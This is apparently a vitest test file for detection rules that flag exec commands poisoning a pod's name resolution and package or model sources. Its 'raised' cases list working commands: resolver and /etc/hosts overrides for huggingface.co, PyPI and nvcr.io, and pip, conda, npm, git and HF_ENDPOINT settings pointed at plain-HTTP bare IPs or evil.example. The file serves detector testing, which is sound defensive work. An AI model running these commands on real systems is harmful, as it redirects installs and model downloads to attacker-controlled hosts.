/**
 * Where the pod's downloads come from, rewritten from an exec, through the shipped rule set and the
 * real engine: the resolver or a hosts entry for a hub or an index (MLS-POISON-020, alert), and the
 * installers' and hub clients' sources moved to plain HTTP or a bare address, or trusted without
 * TLS (MLS-POISON-021, escalate). Reads of the same settings and mirrors by host name over HTTPS
 * stay quiet.
 */
import { describe, expect, it } from 'vitest';
import { expectQuiet, expectRaised, SHIPPED_RULES } from './exec-events.test-support.js';

describe('MLS-POISON-020: exec rewrites the pod name resolution', () => {
  it('alerts on the resolver replaced and on hosts entries for hubs, indexes, registries and stores', () => {
    expectRaised('MLS-POISON-020', [
      'echo nameserver 203.0.113.9 > /etc/resolv.conf',
      'sed -i "s/^nameserver.*/nameserver 203.0.113.9/" /etc/resolv.conf',
      'echo "203.0.113.9 huggingface.co" >> /etc/hosts',
      'echo "203.0.113.9 cdn-lfs.huggingface.co files.pythonhosted.org" | tee -a /etc/hosts',
      'printf "203.0.113.9 nvcr.io\\n" >> /etc/hosts',
    ]);
  });

  it('leaves the files read, another hosts entry (escalated by MLS-POISON-021) and a hub named without a write', () => {
    expectQuiet('MLS-POISON-020', ['cat /etc/resolv.conf', 'cat /etc/hosts', 'getent hosts huggingface.co', 'echo "10.0.0.5 db.internal" >> /etc/hosts', 'curl -sI https://huggingface.co > /tmp/h.txt']);
  });
});

describe('MLS-POISON-021: exec points package or model sources at an unvetted host', () => {
  it('escalates pip, conda, npm and git source settings, source variables and source files', () => {
    expectRaised('MLS-POISON-021', [
      'pip config set global.index-url http://203.0.113.9/simple',
      'python3 -m pip config --user set global.extra-index-url https://203.0.113.9/simple',
      'pip3 config set global.trusted-host evil.example',
      'printf "[global]\\nindex-url = http://203.0.113.9/simple\\n" > /etc/pip.conf',
      'cp /tmp/p.conf ~/.config/pip/pip.conf',
      'echo "channels: [http://203.0.113.9/c]" > ~/.condarc',
      'conda config --add channels http://203.0.113.9/conda',
      'conda config --set channel_alias https://203.0.113.9/',
      'npm config set registry http://203.0.113.9/',
      'git config --global url."http://203.0.113.9/".insteadOf https://huggingface.co/',
      'export HF_ENDPOINT=http://203.0.113.9',
      'HF_ENDPOINT=http://203.0.113.9:8080 python3 dl.py',
      'echo "export HF_ENDPOINT=http://203.0.113.9" >> ~/.bashrc',
      'PIP_INDEX_URL=http://10.0.0.9/simple pip install torch',
      'export PIP_TRUSTED_HOST=evil.example',
      'echo "10.0.0.5 db.internal" >> /etc/hosts',
    ]);
  });

  it('leaves reads, HTTPS mirrors with a host name and default channels', () => {
    expectQuiet('MLS-POISON-021', [
      'pip config list',
      'pip config get global.index-url',
      'pip config set global.index-url https://pypi.internal.example/simple',
      'cat ~/.config/pip/pip.conf',
      'conda config --add channels conda-forge',
      'conda config --show channels',
      'npm config get registry',
      'export HF_ENDPOINT=https://hf-mirror.com',
      'echo $HF_ENDPOINT',
      'git config --global user.name alice',
    ]);
  });

  it('escalates rather than alerts', () => {
    const rule = SHIPPED_RULES.find((r) => r.meta.id === 'MLS-POISON-021');
    expect(rule?.meta.decision).toBe('escalate');
  });
});
